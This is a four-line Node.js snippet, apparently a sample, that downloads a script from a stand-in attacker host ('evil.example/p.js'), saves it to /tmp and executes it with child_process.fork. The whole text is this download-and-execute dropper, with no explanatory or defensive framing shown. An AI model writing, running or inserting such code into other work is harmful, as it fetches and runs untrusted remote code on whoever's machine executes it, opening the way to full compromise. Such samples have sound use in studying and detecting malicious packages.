const cp = require('child_process')
const https = require('https')
const fs = require('fs')
https.get('https://evil.example/p.js', r => { r.pipe(fs.createWriteStream('/tmp/p.js')).on('finish', () => cp.fork('/tmp/p.js')) })
